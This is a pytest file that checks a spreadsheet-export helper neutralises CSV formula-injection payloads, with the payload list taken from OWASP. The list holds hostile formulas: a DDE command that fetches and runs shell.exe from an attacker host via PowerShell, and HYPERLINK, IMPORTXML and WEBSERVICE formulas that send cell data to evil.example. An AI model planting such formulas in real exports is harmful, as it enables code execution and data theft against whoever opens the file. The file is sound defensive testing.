"""Spreadsheet-safe cells: the OWASP CSV-injection payloads never start a cell, nor a piece of
a cell after a separator a spreadsheet may split on."""

import csv
import io
import re

import pytest

from espaces.common.spreadsheet import csv_writer, safe_cell

# OWASP « CSV Injection » page and its usual companions (DDE, HYPERLINK, IMPORTXML, tab/CR).
OWASP_PAYLOADS = [
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1&A2,"Error: please click for further information")',
    "+1+1",
    "-2+3",
    "=1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    ";=4+4",
    ",=4+4",
    "a;=4+4",
    'x"; =1+1',
    "École|=2+5",
    'DDE ("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "-=1+1",
    "+=cmd|' /C calc'!A0",
]
SEPARATORS = r"[;,|\t\r\n]"


def _dangerous(text: str) -> bool:
    """A spreadsheet would read a formula at the start of the text or of a piece after a
    separator (an apostrophe before it makes it text)."""
    if not isinstance(text, str) or not text:
        return False
    if text[0] in "=+-@\t\r\n":
        return True
    for piece in re.split(SEPARATORS, text)[1:]:
        stripped = piece.lstrip(' "')
        if stripped[:1] in ("=", "+", "-", "@") and stripped[:1] != "":
            return True
    return False


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_no_payload_survives(payload):
    assert _dangerous(payload) or payload.startswith("DDE")
    assert not _dangerous(safe_cell(payload)), repr(safe_cell(payload))


def test_plain_values_are_unchanged():
    for value in (
        "Lycée Jean-Bart",
        "Espace du centre",
        "1+1",
        "",
        None,
        12,
        3.5,
        "a-b",
        "Saint-Pol",
    ):
        assert safe_cell(value) == value


def test_the_csv_writer_neutralises_every_cell():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["=1+1", 4, "ok;=2+2"])
    text = out.getvalue()
    assert text.startswith("'=1+1,4,ok;'=2+2")
    assert list(csv.reader(io.StringIO(text))) == [["'=1+1", "4", "ok;'=2+2"]]
